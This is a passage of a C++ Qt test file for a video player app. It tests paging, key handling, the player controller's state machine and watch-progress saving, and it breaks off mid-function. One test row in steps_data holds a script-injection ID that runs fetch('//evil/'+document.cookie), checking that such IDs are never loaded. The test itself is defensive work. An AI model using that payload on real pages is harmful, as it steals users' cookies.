#include "AppSignals.h"
#include "AppState.h"
#include "Bridge.h"
#include "CachedThumb.h"
#include "FakeHttpServer.h"
#include "KeyRules.h"
#include "PagingCoordinator.h"
#include "PlayerController.h"
#include "ThumbCache.h"
#include "UpNextCountdown.h"
#include "WatchProgress.h"

#include <QAction>
#include <QApplication>
#include <QBuffer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QKeyEvent>
#include <QLineEdit>
#include <QListView>
#include <QListWidget>
#include <QNetworkAccessManager>
#include <QPainter>
#include <QPlainTextEdit>
#include <QRegularExpression>
#include <QSettings>
#include <QSignalSpy>
#include <QStandardItemModel>
#include <QStyledItemDelegate>
#include <QTemporaryDir>
#include <QTest>
#include <QToolButton>
#include <QVBoxLayout>
#include <QWheelEvent>
#include <memory>

using namespace clipvane;
using clipvane::test::FakeHttpServer;
using clipvane::test::FakeReply;

namespace {

// Counts the presses of one key (not of the modifiers) that reach a widget.
struct KeyCounter : QObject
{
    bool eventFilter(QObject *, QEvent *event) override
    {
        presses += event->type() == QEvent::KeyPress && static_cast<QKeyEvent *>(event)->key() == key;
        return false;
    }
    int key = Qt::Key_Space;
    int presses = 0;
};

// Records every script the controller sends.
struct FakePage : PlayerPage
{
    explicit FakePage(QStringList &log)
        : log(log)
    {}
    void runScript(const QString &script) override { log << script; }
    QStringList &log;
};

// A time-out the test fires by hand.
struct FakeTimer : OneShotTimer
{
    void start(std::chrono::milliseconds interval, std::function<void()> fire) override
    {
        lastInterval = interval;
        onFire = std::move(fire);
        active = true;
    }
    void stop() override { active = false; }
    bool isActive() const override { return active; }
    void fire()
    {
        if (std::exchange(active, false))
            onFire();
    }
    std::chrono::milliseconds lastInterval{0};
    std::function<void()> onFire;
    bool active = false;
};

QJsonValue parsed(const QString &json)
{
    QJsonParseError error{};
    const QJsonDocument document = QJsonDocument::fromJson((u'[' + json + u']').toUtf8(), &error);
    if (error.error != QJsonParseError::NoError)
        qFatal("bad JSON in a test row: %s", qPrintable(json));
    return document.array().at(0);
}

// A row's text with video A and video B spelled out, as IDs and as script arguments.
QString withIDs(const char *text)
{
    static const QList<QPair<QString, QString>> ids{{u"A"_qs, u"dQw4w9WgXcQ"_qs}, {u"B"_qs, u"9bZkp7q19f0"_qs}};
    QString out = QString::fromUtf8(text);
    for (const auto &[token, id] : ids) {
        out.replace(u'(' + token + u',', u"(\""_qs + id + u"\","_qs);
        out.replace(QRegularExpression(u"\\b"_qs + token + u"\\b"_qs), id);
    }
    return out;
}

// Drives one controller through a row's steps, written as one text separated by ", ":
//   attach        a new page (the earlier one stays alive)
//   drop          the current page goes away
//   ready         the page says it is ready
//   msg JSON      the page posts JSON through the bridge
//   state S       the page posts {"t":"state","s":S}; error C likewise with "c"
//   load ID 0|1 [S] load with autoplay off or on, from S seconds (0 when not given)
//   play, pause   the operations of the same names
//   timeout       the loading time-out expires (when it runs)
struct Harness
{
    QStringList scripts;
    FakeTimer *timer = new FakeTimer;
    PlayerController controller{std::unique_ptr<OneShotTimer>(timer)};
    Bridge bridge{controller};
    std::vector<std::unique_ptr<FakePage>> pages;

    void run(const QString &steps)
    {
        for (const QString &step : steps.split(u", "_qs, Qt::SkipEmptyParts)) {
            const QString verb = step.section(u' ', 0, 0);
            const QString rest = step.section(u' ', 1);
            if (verb == u"attach") {
                pages.push_back(std::make_unique<FakePage>(scripts));
                controller.attach(pages.back().get());
            } else if (verb == u"drop") {
                pages.back().reset();
            } else if (verb == u"ready") {
                bridge.postMessage(parsed(uR"({"t":"ready"})"_qs));
            } else if (verb == u"msg") {
                bridge.postMessage(parsed(rest));
            } else if (verb == u"state" || verb == u"error") {
                bridge.postMessage(parsed(uR"({"t":"%1","%2":%3})"_qs.arg(verb, verb == u"state" ? u"s" : u"c", rest)));
            } else if (verb == u"load") {
                controller.load(rest.section(u' ', 0, 0), rest.section(u' ', 1, 1) == u"1",
                                rest.section(u' ', 2, 2).toInt());
            } else if (verb == u"play") {
                controller.play();
            } else if (verb == u"pause") {
                controller.pause();
            } else if (verb == u"timeout") {
                timer->fire();
            } else {
                qFatal("unknown step %s", qPrintable(step));
            }
        }
    }
};

QByteArray encoded(const QSize &size, const char *format = "PNG")
{
    QImage image(size, QImage::Format_RGB32);
    image.fill(Qt::red);
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    image.save(&buffer, format);
    return bytes;
}

FakeReply imageReply(const QByteArray &body, std::chrono::milliseconds delay = {}, int status = 200)
{
    FakeReply reply = FakeReply::json(body, status);
    reply.headers = {{"Content-Type", "image/png"}};
    reply.delay = delay;
    return reply;
}

// A list of `rows` rows whose delegate paints each row's thumbnail the way the library's does.
struct ThumbList : QStyledItemDelegate
{
    ThumbList(ThumbCache &cache, const QList<QUrl> &addresses, int height)
    {
        for (const QUrl &url : addresses) {
            auto *item = new QStandardItem(url.path());
            item->setData(url, Qt::UserRole);
            model.appendRow(item);
        }
        view.setUniformItemSizes(true);
        view.resize(320, height);
        view.setItemDelegate(this);
        view.setModel(&model);
        thumbs = new CachedThumb(cache, view);
        view.show();
    }
    void paint(QPainter *painter, const QStyleOptionViewItem &option, const QModelIndex &index) const override
    {
        thumbs->paint(*painter, QRectF(option.rect.topLeft(), CachedThumb::kRowSize), index.data(Qt::UserRole).toUrl(),
                      index);
    }
    QSize sizeHint(const QStyleOptionViewItem &, const QModelIndex &) const override { return {300, 56}; }

    QStandardItemModel model;
    QListView view;
    CachedThumb *thumbs = nullptr;
};

} // namespace

class PlayerTest : public QObject
{
    Q_OBJECT

    QTemporaryDir m_dir;
    FakeHttpServer m_server;
    QNetworkAccessManager m_network;

    QUrl address(int n) const { return m_server.url(u"/vi/%1/mqdefault.jpg"_qs.arg(n)); }

private Q_SLOTS:
    void initTestCase() { QVERIFY(m_server.start()); }

    void init()
    {
        m_server.clearRequests();
        m_server.setHandler({});
        m_server.setDefaultReply(imageReply(encoded({320, 180})));
    }

    // An event is "p" (precise) or "l" (a wheel's lines), its delta, "@" and its time in ms; each is
    // answered by the direction it paged, 0 for none.
    void wheel_data()
    {
        QTest::addColumn<QString>("events");
        QTest::addColumn<QString>("pages");
        const auto row = [](const char *name, const char *events, const char *pages) {
            QTest::newRow(name) << QString::fromLatin1(events) << QString::fromLatin1(pages);
        };
        row("precise: exactly 28 does not page", "p-14@0 p-14@10", "0 0");
        row("precise: one more point does", "p-14@0 p-14@10 p-1@20", "0 0 1");
        row("precise: 10s page on the third, then a lock-out, then from 0",
            "p-10@0 p-10@10 p-10@20 p-10@100 p-10@469 p-10@470 p-10@480 p-10@490 p-10@500", "0 0 1 0 0 0 0 1 0");
        row("precise: +20 then -20 cancel out", "p20@0 p-20@10 p20@20 p-20@30", "0 0 0 0");
        row("precise: upward pages back", "p29@0", "-1");
        row("precise: residue carries into the next gesture", "p-20@0 p-9@5000", "0 1");
        row("line: a notch pages at once, 0.1 s later ignored, 0.2 s later again", "l-1@0 l-1@100 l-1@200", "1 0 1");
        row("line: lock-out ends after 0.18 s", "l1@0 l1@179 l1@180", "-1 0 -1");
        row("line: 0.1 is not enough, 0.11 is", "l-0.1@0 l0.11@1", "0 -1");
        row("line: small notches do not accumulate", "l-0.05@0 l-0.05@1 l-0.05@2", "0 0 0");
        row("horizontal only: nothing", "p0@0 l0@1", "0 0");
        row("events in a lock-out do not accumulate", "l-1@0 p-25@50 p-25@500", "1 0 0");
    }

    void wheel()
    {
        QFETCH(QString, events);
        qint64 now = 0;
        PagingCoordinator coordinator([&now] { return now; });
        QStringList paged;
        for (const QString &event : events.split(u' ')) {
            now = event.section(u'@', 1).toLongLong();
            int direction = 0;
            const double delta = event.mid(1).section(u'@', 0, 0).toDouble();
            coordinator.handleWheel(delta, event.startsWith(u'p'), [&direction](int d) { direction = d; });
            paged << QString::number(direction);
        }
        QTEST(paged.join(u' '), "pages");
    }

    void lockOutCountsFromAfterThePageStep()
    {
        // A slow page step (the list reloads the player) must not eat into the lock-out.
        qint64 now = 0;
        PagingCoordinator coordinator([&now] { return now; });
        int steps = 0;
        const auto onPage = [&](int) {
            ++steps;
            now += 1000;
        };
        coordinator.handleWheel(-1, false, onPage);
        now += 100;
        coordinator.handleWheel(-1, false, onPage);
        QCOMPARE(steps, 1);
    }

    void wheelEvents_data()
    {
        QTest::addColumn<QPoint>("pixel");
        QTest::addColumn<QPoint>("angle");
        QTest::addColumn<double>("delta");
        QTest::addColumn<bool>("precise");
        QTest::newRow("trackpad") << QPoint(0, -12) << QPoint(0, -96) << -12.0 << true;
        QTest::newRow("wheel notch down") << QPoint() << QPoint(0, -120) << -1.0 << false;
        QTest::newRow("half notch up") << QPoint() << QPoint(0, 60) << 0.5 << false;
        QTest::newRow("horizontal trackpad") << QPoint(30, 0) << QPoint(240, 0) << 0.0 << true;
    }

    void wheelEvents()
    {
        QFETCH(QPoint, pixel);
        QFETCH(QPoint, angle);
        QFETCH(bool, precise);
        const QWheelEvent event(QPointF(), QPointF(), pixel, angle, Qt::NoButton, Qt::NoModifier, Qt::NoScrollPhase,
                                false);
        bool isPrecise = !precise;
        QTEST(PagingCoordinator::verticalDelta(event, &isPrecise), "delta");
        QCOMPARE(isPrecise, precise);
    }

    void keys_data()
    {
        QTest::addColumn<int>("key");
        QTest::addColumn<int>("modifiers");
        QTest::addColumn<int>("direction");
        QTest::newRow("Down") << int(Qt::Key_Down) << 0 << +1;
        QTest::newRow("Up") << int(Qt::Key_Up) << 0 << -1;
        QTest::newRow("J") << int(Qt::Key_J) << 0 << +1;
        QTest::newRow("K") << int(Qt::Key_K) << 0 << -1;
        QTest::newRow("Shift+J") << int(Qt::Key_J) << int(Qt::ShiftModifier) << +1;
        QTest::newRow("Keypad Up") << int(Qt::Key_Up) << int(Qt::KeypadModifier) << -1;
        QTest::newRow("Ctrl+J") << int(Qt::Key_J) << int(Qt::ControlModifier) << 0;
        QTest::newRow("Alt+Down") << int(Qt::Key_Down) << int(Qt::AltModifier) << 0;
        QTest::newRow("Ctrl+K") << int(Qt::Key_K) << int(Qt::ControlModifier) << 0;
        QTest::newRow("Meta+Up") << int(Qt::Key_Up) << int(Qt::MetaModifier) << 0;
        QTest::newRow("L") << int(Qt::Key_L) << 0 << 0;
        QTest::newRow("Space") << int(Qt::Key_Space) << 0 << 0;
        QTest::newRow("Page Down") << int(Qt::Key_PageDown) << 0 << 0;
    }

    void keys()
    {
        QFETCH(int, key);
        QFETCH(int, modifiers);
        const QKeyEvent event(QEvent::KeyPress, key, Qt::KeyboardModifiers(modifiers));
        QTEST(PagingCoordinator::keyDirection(event), "direction");
    }

    void spaceKey_data()
    {
        QTest::addColumn<QString>("windowTitle");
        QTest::addColumn<QString>("focus");
        QTest::addColumn<int>("modifiers");
        QTest::addColumn<int>("key");
        QTest::addColumn<bool>("toggles");

        const QString main = u"Clipvane"_qs;
        const auto row = [](const char *name, const QString &title, const char *focus, Qt::KeyboardModifiers mods,
                            bool toggles, int key = Qt::Key_Space) {
            QTest::newRow(name) << title << QString::fromLatin1(focus) << int(mods) << key << toggles;
        };
        row("list focused", main, "list", Qt::NoModifier, true);
        row("keypad space", main, "list", Qt::KeypadModifier, true);
        row("search field keeps Space", main, "search", Qt::NoModifier, false);
        row("text view keeps Space", main, "notes", Qt::NoModifier, false);
        row("Shift+Space", main, "list", Qt::ShiftModifier, false);
        row("Ctrl+Space", main, "list", Qt::ControlModifier, false);
        row("Alt+Space", main, "list", Qt::AltModifier, false);
        row("Meta+Space", main, "list", Qt::MetaModifier, false);
        row("another key", main, "list", Qt::NoModifier, false, Qt::Key_Return);
        row("settings window", u"Settings"_qs, "list", Qt::NoModifier, false);
        row("title only close to the main one", u"Clipvane "_qs, "list", Qt::NoModifier, false);
    }

    void spaceKey()
    {
        QFETCH(QString, windowTitle);
        QFETCH(QString, focus);
        QFETCH(int, modifiers);
        QFETCH(int, key);
        QFETCH(bool, toggles);

        QSettings standard(m_dir.filePath(u"s.ini"_qs), QSettings::IniFormat);
        AppState state(standard);
        KeyRules filter(state);

        QWidget window;
        window.setWindowTitle(windowTitle);
        auto *layout = new QVBoxLayout(&window);
        for (QWidget *widget : std::initializer_list<QWidget *>{new QLineEdit, new QListWidget, new QPlainTextEdit})
            layout->addWidget(widget);
        window.show();
        window.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&window));
        QWidget *target = layout->itemAt(focus == u"search" ? 0 : focus == u"list" ? 1 : 2)->widget();
        target->setFocus();
        QCOMPARE(QApplication::focusWidget(), target);

        KeyCounter counter;
        counter.key = key;
        target->installEventFilter(&counter);
        for (int press = 1; press <= 2; ++press) {
            QTest::keyClick(target, Qt::Key(key), Qt::KeyboardModifiers(modifiers));
            // Each press toggles, and a taken press never reaches the focused widget.
            QCOMPARE(state.player().isPlaying(), toggles && press == 1);
            QCOMPARE(counter.presses, toggles ? 0 : press);
        }
    }

    // The focused control gets its keys first: a button is pressed by Return and by Space (which
    // then plays nothing); a text field gives the window's command keys to the window but keeps
    // its editing keys.
    void keysGoToTheFocusedControlFirst()
    {
        QSettings standard(m_dir.filePath(u"s.ini"_qs), QSettings::IniFormat);
        AppState state(standard);
        KeyRules rules(state);
        QWidget window;
        window.setWindowTitle(u"Clipvane"_qs);
        auto *layout = new QVBoxLayout(&window);
        auto *button = new QToolButton;
        auto *field = new QLineEdit(u"text"_qs);
        layout->addWidget(button);
        layout->addWidget(field);
        QStringList fired;
        for (const QKeySequence &key : {QKeySequence(Qt::CTRL | Qt::Key_E), QKeySequence(Qt::CTRL | Qt::Key_A)}) {
            auto *action = new QAction(&window);
            action->setShortcut(key);
            window.addAction(action);
            connect(action, &QAction::triggered, &window, [&fired, key] { fired << key.toString(); });
        }
        window.show();
        window.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&window));
        QSignalSpy clicks(button, &QAbstractButton::clicked);
        button->setFocus();
        QTest::keyClick(button, Qt::Key_Return);
        QTest::keyClick(button, Qt::Key_Space);
        QTRY_COMPARE(clicks.size(), 2);
        QVERIFY(!state.player().isPlaying());
        field->setFocus();
        QTest::keyClick(field, Qt::Key_E, Qt::ControlModifier);
        QTest::keyClick(field, Qt::Key_A, Qt::ControlModifier);
        QCOMPARE(fired, QStringList{u"Ctrl+E"_qs});
        QCOMPARE(field->selectedText(), u"text"_qs);
    }

    // F and Escape: full screen for a playable video from anywhere but a text field; Escape
    // leaves it before the window's own Escape, then cancels the next video, then passes on.
    // given and after: "full" (full screen), "next" (the wait runs), "browse", "link" (a link
    // record is selected); reached: presses that got to the focused widget.
    void fullScreenAndEscapeKeys_data()
    {
        QTest::addColumn<QString>("windowTitle");
        QTest::addColumn<QString>("focus");
        QTest::addColumn<int>("key");
        QTest::addColumn<int>("modifiers");
        QTest::addColumn<QString>("given");
        QTest::addColumn<QString>("after");
        QTest::addColumn<int>("windowEscapes");
        QTest::addColumn<int>("steps"); // +1 or -1 per page
        QTest::addColumn<int>("reached");
        const QString main = u"Clipvane"_qs;
        const auto row = [](const char *name, const QString &title, const char *focus, int key,
                            Qt::KeyboardModifiers mods, const char *given, const char *after, int windowEscapes,
                            int steps, int reached) {
            QTest::newRow(name) << title << QString::fromLatin1(focus) << key << int(mods) << QString::fromLatin1(given)
                                << QString::fromLatin1(after) << windowEscapes << steps << reached;
        };
        const int F = Qt::Key_F, Esc = Qt::Key_Escape;
        const auto none = Qt::NoModifier;
        row("F enters full screen", main, "list", F, none, "", "full", 0, 0, 0);
        row("F leaves it", main, "list", F, none, "full", "", 0, 0, 0);
        row("F is typed in the search field", main, "search", F, none, "", "", 0, 0, 1);
        row("F with a link selected", main, "list", F, none, "link", "link", 0, 0, 1);
        row("Shift+F", main, "list", F, Qt::ShiftModifier, "", "", 0, 0, 1);
        row("F in another window", u"Settings"_qs, "list", F, none, "", "", 0, 0, 1);
        row("Escape leaves full screen first", main, "list", Esc, none, "full next browse", "next browse", 0, 0, 0);
        row("Escape leaves full screen from a field", main, "search", Esc, none, "full", "", 0, 0, 0);
        row("Escape then cancels the next video", main, "list", Esc, none, "next browse", "browse", 0, 0, 0);
        row("Escape with nothing of ours is the window's", main, "list", Esc, none, "browse", "browse", 1, 0, 0);
        row("Shift+Escape is not ours", main, "list", Esc, Qt::ShiftModifier, "full", "full", 0, 0, 1);
        row("J pages in full screen browse mode", main, "list", Qt::Key_J, none, "full browse", "full browse", 0, 1, 0);
        row("K pages back", main, "list", Qt::Key_K, none, "full browse", "full browse", 0, -1, 0);
        row("J outside browse mode is the list's", main, "list", Qt::Key_J, none, "full", "full", 0, 0, 1);
        row("J in a field is typed", main, "search", Qt::Key_J, none, "full browse", "full browse", 0, 0, 1);
    }

    void fullScreenAndEscapeKeys()
    {
        QFETCH(QString, windowTitle);
        QFETCH(QString, focus);
        QFETCH(int, key);
        QFETCH(int, modifiers);
        QFETCH(QString, given);

        QSettings standard(m_dir.filePath(u"s.ini"_qs), QSettings::IniFormat);
        AppState state(standard);
        KeyRules filter(state);
        QStringList scripts;
        FakePage page(scripts);
        state.player().attach(&page);
        state.setSelectedID(given.contains(u"link") ? u"x-aaaaaa"_qs : u"dQw4w9WgXcQ"_qs);
        state.setFullScreen(given.contains(u"full"));
        state.setBrowsing(given.contains(u"browse"));
        if (given.contains(u"next"))
            state.upNext().offer(u"9bZkp7q19f0"_qs, u"Next"_qs);

        QWidget window;
        window.setWindowTitle(windowTitle);
        auto *layout = new QVBoxLayout(&window);
        auto *field = new QLineEdit;
        auto *list = new QListWidget;
        layout->addWidget(field);
        layout->addWidget(list);
        auto *escape = new QAction(&window);
        escape->setShortcut(Qt::Key_Escape);
        window.addAction(escape);
        QSignalSpy windowEscapes(escape, &QAction::triggered);
        QSignalSpy steps(&AppSignals::instance(), &AppSignals::macStepSelection);
        window.show();
        window.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&window));
        QWidget *target = focus == u"search" ? static_cast<QWidget *>(field) : list;
        target->setFocus();
        KeyCounter counter;
        counter.key = key;
        target->installEventFilter(&counter);

        QTest::keyClick(target, Qt::Key(key), Qt::KeyboardModifiers(modifiers));

        QStringList after;
        if (state.fullScreen())
            after << u"full"_qs;
        if (state.upNext().isActive())
            after << u"next"_qs;
        if (state.browsing())
            after << u"browse"_qs;
        if (given.contains(u"link"))
            after << u"link"_qs;
        QTEST(after.join(u' '), "after");
        QTEST(int(windowEscapes.size()), "windowEscapes");
        int paged = 0;
        for (const QList<QVariant> &step : steps)
            paged += step.at(0).toInt();
        QTEST(paged, "steps");
        QTEST(counter.presses, "reached");
    }

    // The wait before the next video counts whole seconds on its own timer; steps: "offer ID",
    // "tick", "cancel", "now".
    void upNextCountdown_data()
    {
        QTest::addColumn<QString>("steps");
        QTest::addColumn<QString>("requested"); // the IDs asked to play, in order
        QTest::addColumn<int>("secondsLeft");   // 0: the wait is over
        QTest::newRow("four seconds in") << u"offer A, tick, tick, tick, tick"_qs << QString() << 1;
        QTest::newRow("five seconds in") << u"offer A, tick, tick, tick, tick, tick"_qs << u"A"_qs << 0;
        QTest::newRow("a late tick after the end") << u"offer A, tick, tick, tick, tick, tick, tick"_qs << u"A"_qs << 0;
        QTest::newRow("cancelled") << u"offer A, tick, cancel, tick, tick, tick, tick"_qs << QString() << 0;
        QTest::newRow("play now") << u"offer A, tick, now, tick, now"_qs << u"A"_qs << 0;
        QTest::newRow("a new offer starts again")
            << u"offer A, tick, tick, offer B, tick, tick, tick, tick"_qs << QString() << 1;
        QTest::newRow("then plays the new one")
            << u"offer A, tick, offer B, tick, tick, tick, tick, tick"_qs << u"B"_qs << 0;
    }

    void upNextCountdown()
    {
        QFETCH(QString, steps);
        auto *timer = new FakeTimer;
        UpNextCountdown countdown{std::unique_ptr<OneShotTimer>(timer)};
        QStringList requested;
        connect(&countdown, &UpNextCountdown::playRequested, this, [&](const QString &id) { requested << id; });
        for (const QString &step : steps.split(u", "_qs)) {
            if (step.startsWith(u"offer "))
                countdown.offer(step.mid(6), u"Title "_qs + step.mid(6));
            else if (step == u"tick")
                timer->fire();
            else if (step == u"cancel")
                countdown.cancel();
            else if (step == u"now")
                countdown.playNow();
        }
        QTEST(requested.join(u' '), "requested");
        QTEST(countdown.secondsLeft(), "secondsLeft");
        QCOMPARE(countdown.isActive(), countdown.secondsLeft() > 0);
        QCOMPARE(timer->isActive(), countdown.isActive());
        if (countdown.isActive())
            QCOMPARE(timer->lastInterval, std::chrono::milliseconds(UpNextCountdown::kTick));
    }

    void stateGoneOrFilterGonePassesSpaceOn()
    {
        QSettings standard(m_dir.filePath(u"s.ini"_qs), QSettings::IniFormat);
        auto state = std::make_unique<AppState>(standard);
        auto filter = std::make_unique<KeyRules>(*state);
        QWidget window;
        window.setWindowTitle(u"Clipvane"_qs);
        auto *list = new QListWidget(&window);
        window.show();
        window.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&window));
        list->setFocus();
        KeyCounter counter;
        list->installEventFilter(&counter);

        state.reset();
        QTest::keyClick(list, Qt::Key_Space);
        QCOMPARE(counter.presses, 1);
        filter.reset();
        QTest::keyClick(list, Qt::Key_Space);
        QCOMPARE(counter.presses, 2);
    }

    void steps_data()
    {
        QTest::addColumn<QString>("steps");
        QTest::addColumn<QString>("scripts"); // every script sent, separated by " "
        QTest::addColumn<QString>("state");   // "playing", "loading", "error=CODE", "pending=ID"

        const auto row = [](const char *name, const char *steps, const char *scripts, const char *state) {
            QTest::newRow(name) << withIDs(steps) << withIDs(scripts) << withIDs(state);
        };

        // Waiting for the page.
        row("no page: load waits", "load A 1", "", "pending=A");
        row("attached, not ready: load waits", "attach, load A 0", "", "pending=A");
        row("ready sends the pending cue", "attach, load A 0, ready", "cueVideo(A, 0)", "loading");
        row("ready sends the pending load", "attach, load A 1, ready", "loadVideo(A, 0)", "playing loading");
        row("two loads before ready: the second", "attach, load A 1, load B 0, ready", "cueVideo(B, 0)", "loading");
        row("a saved position is where it starts", "attach, ready, load A 1 95", "loadVideo(A, 95)", "playing loading");
        row("a pending load keeps its start", "attach, load A 0 40, ready", "cueVideo(A, 40)", "loading");
        row("a new page resumes where the old one was",
            R"(attach, ready, load A 0 40, state 5, msg {"t":"time","p":61.5,"d":300}, attach, ready)",
            "cueVideo(A, 40) cueVideo(A, 61)", "loading");
        row("second ready with nothing pending", "attach, ready, load A 0, ready", "cueVideo(A, 0)", "loading");
        row("play before ready only changes the flag", "attach, play", "", "playing");

        // The same video again.
        row("same video without autoplay", "attach, ready, load A 0, load A 0", "cueVideo(A, 0)", "loading");
        row("same video, autoplay", "attach, ready, load A 0, load A 1", "cueVideo(A, 0) play()", "playing loading");

        // The state table, after "attach, ready, load A 1".
        const auto after = [&row](const char *name, const char *more, const char *state) {
            row(name, (QByteArray("attach, ready, load A 1, ") + more).constData(), "loadVideo(A, 0)", state);
        };
        after("state 1 plays, ends loading", "state 1", "playing");
        after("state 0 ends", "state 0", "");
        after("state 2 pauses", "state 2", "");
        after("state 5 cued", "state 5", "");
        after("state -1 ignored", "state -1", "playing loading");
        after("state 3 ignored", "state 3", "playing loading");
        after("state 4 only ends loading", "state 4", "playing");
        after("state 1.0 is the integer 1", "state 1.0", "playing");
        after("state without a number is -1", R"(msg {"t":"state"})", "playing loading");
        after("state as text is -1", R"(state "1")", "playing loading");
        after("state 1.5 is -1", "state 1.5", "playing loading");
        after("state beyond int is -1", "state 1e300", "playing loading");

        // Errors.
        after("error 150", "error 150", "error=150");
        after("error without code is -1", R"(msg {"t":"error"})", "error=-1");
        row("play keeps error", "attach, ready, load A 1, error 101, play", "loadVideo(A, 0) play()",
            "playing error=101");
        after("same video keeps the error", "error 101, load A 0", "error=101");
        row("another video clears the error", "attach, ready, load A 1, error 101, load B 0",
            "loadVideo(A, 0) cueVideo(B, 0)", "loading");

        // Malformed messages change nothing.
        after("text body", R"(msg "ready")", "playing loading");
        after("array body", R"(msg [{"t":"error"}])", "playing loading");
        after("null body", "msg null", "playing loading");
        after("no type", R"(msg {"s":1})", "playing loading");
        after("type not text", R"(msg {"t":1,"s":1})", "playing loading");
        after("unknown type", R"(msg {"t":"volume","s":1})", "playing loading");

        after("time-out ends loading only", "timeout", "playing");

        // A new web view.
        row("re-attach while playing loads again", "attach, ready, load A 1, attach, ready",
            "loadVideo(A, 0) loadVideo(A, 0)", "playing loading");
        row("re-attach while paused cues again", "attach, ready, load A 1, pause, attach, ready",
            "loadVideo(A, 0) pause() cueVideo(A, 0)", "loading");
        row("the old page gets nothing after re-attach", "attach, ready, load A 1, attach, play", "loadVideo(A, 0)",
            "playing loading pending=A");
        row("page gone while ready: load waits", "attach, ready, load A 1, drop, load B 0", "loadVideo(A, 0)",
            "playing loading pending=B");
        row("page gone: pause only sets the flag", "attach, ready, load A 1, drop, pause", "loadVideo(A, 0)",
            "loading");

        // Hostile or unplayable IDs are never loaded nor kept pending.
        row("hostile ID, ready", "attach, ready, load a');fetch('//evil/'+document.cookie);(' 1", "", "");
        row("hostile ID before ready", "attach, load a');fetch('//evil/'+document.cookie);(' 1, ready", "", "");
    }

    void steps()
    {
        QFETCH(QString, steps);
        Harness h;
        h.run(steps);
        QTEST(h.scripts.join(u' '), "scripts");
        PlayerController &c = h.controller;
        QStringList state;
        if (c.isPlaying())
            state << u"playing"_qs;
        if (c.isLoading())
            state << u"loading"_qs;
        if (c.embedError())
            state << u"error=%1"_qs.arg(*c.embedError());
        if (c.pendingID())
            state << u"pending="_qs + *c.pendingID();
        QTEST(state.join(u' '), "state");
        QCOMPARE(h.timer->isActive(), c.isLoading());
        if (c.isLoading())
            QCOMPARE(h.timer->lastInterval, std::chrono::milliseconds(PlayerController::kLoadingTimeout));
    }

    void changeSignalsFollowTheValues()
    {
        Harness h;
        QSignalSpy playing(&h.controller, &PlayerController::isPlayingChanged);
        QSignalSpy loading(&h.controller, &PlayerController::isLoadingChanged);
        QSignalSpy error(&h.controller, &PlayerController::embedErrorChanged);
        h.run(uR"(attach, ready, load dQw4w9WgXcQ 1, msg {"t":"error","c":2})"_qs);
        QCOMPARE(playing.count(), 2); // on, then off by the error
        QCOMPARE(loading.count(), 2);
        QCOMPARE(error.count(), 1);
    }

    // A time report as the page posts it, and what the controller passes on ("" for nothing).
    void timeReports_data()
    {
        QTest::addColumn<QString>("message");
        QTest::addColumn<QString>("reported");
        QTest::newRow("position and length") << uR"({"t":"time","p":12.5,"d":300})"_qs << u"12.5/300"_qs;
        QTest::newRow("length not known yet") << uR"({"t":"time","p":0})"_qs << u"0/0"_qs;
        QTest::newRow("negative length") << uR"({"t":"time","p":3,"d":-1})"_qs << u"3/0"_qs;
        QTest::newRow("no position") << uR"({"t":"time","d":300})"_qs << QString();
        QTest::newRow("position as text") << uR"({"t":"time","p":"12","d":300})"_qs << QString();
    }

    void timeReports()
    {
        QFETCH(QString, message);
        Harness h;
        QStringList reported;
        QObject context;
        connect(&h.controller, &PlayerController::timeReported, &context,
                [&](double p, double d) { reported << u"%1/%2"_qs.arg(p).arg(d); });
        h.run(withIDs("attach, ready, load A 1"));
        // Still the previous video's: the new one has not reported a state yet.
        h.bridge.postMessage(parsed(message));
        QCOMPARE(reported, QStringList());
        h.run(u"state -1"_qs);
        h.bridge.postMessage(parsed(message));
        QTEST(reported.join(u' '), "reported");
    }

    // Steps, separated by ", ": "select ID" (or "select -" for none), "t P/D" a report while
    // playing, "tp P/D" one while paused, "wait S" the clock moves S seconds, "pause", "end",
    // "quit". What was kept: "ID@S" for a position, "ID!" for a watched mark.
    void watchProgress_data()
    {
        QTest::addColumn<QString>("steps");
        QTest::addColumn<QString>("kept");
        const auto row = [](const char *name, const char *steps, const char *kept) {
            QTest::newRow(name) << QString::fromUtf8(steps) << QString::fromUtf8(kept);
        };
        row("nothing kept within the interval", "select a, t 3/100, wait 9, t 12/100", "");
        row("kept every ten seconds while playing",
            "select a, t 3/100, wait 10, t 13/100, wait 5, t 18/100, wait 5, t 23/100", "a@13 a@23");
        row("kept on pause", "select a, t 30.7/100, pause", "a@30");
        row("a second pause at the same place writes nothing", "select a, t 30/100, pause, pause", "a@30");
        row("kept when another video is selected", "select a, t 42/100, select b", "a@42");
        row("kept when none is selected", "select a, t 42/100, select -", "a@42");
        row("kept on quit", "select a, t 42/100, quit", "a@42");
        row("nothing before it has played", "select a, tp 0/100, pause, select b", "");
        row("a paused report after playing is kept at once", "select a, t 20/100, tp 25/100, pause", "a@25");
        row("the exact place of a pause that came first", "select a, t 20/100, pause, tp 20.8/100, tp 21/100",
            "a@20 a@21");
        row("exactly 90 % is not yet watched", "select a, t 90/100, pause", "a@90");
        row("past 90 % is watched", "select a, t 90.5/100", "a!");
        row("watched once, then no more positions", "select a, t 95/100, wait 10, t 97/100, pause, quit", "a!");
        row("played to the end", "select a, t 50/100, end", "a!");
        row("an end after the mark marks nothing more", "select a, t 95/100, end", "a!");
        row("unknown length never counts as watched", "select a, t 500/0, pause", "a@500");
        row("selected again: positions kept again", "select a, t 95/100, select b, select a, t 5/100, pause", "a! a@5");
        row("the same selection again changes nothing", "select a, t 8/100, select a, pause", "a@8");
        row("no selection: nothing", "t 50/100, end, quit", "");
    }

    void watchProgress()
    {
        QFETCH(QString, steps);
        std::chrono::steady_clock::time_point now{};
        QStringList kept;
        WatchProgress progress({[&](const QString &id, int s) { kept << u"%1@%2"_qs.arg(id).arg(s); },
                                [&](const QString &id) { kept << id + u'!'; }},
                               [&] { return now; });
        for (const QString &step : steps.split(u", "_qs)) {
            const QString verb = step.section(u' ', 0, 0);
            const QString rest = step.section(u' ', 1);
            if (verb == u"select")
                progress.select(rest == u"-" ? std::nullopt : std::optional<QString>(rest));
            else if (verb == u"t" || verb == u"tp")
                progress.timeReported(rest.section(u'/', 0, 0).toDouble(), rest.section(u'/', 1).toDouble(),
                                      verb == u"t");
            else if (verb == u"wait")
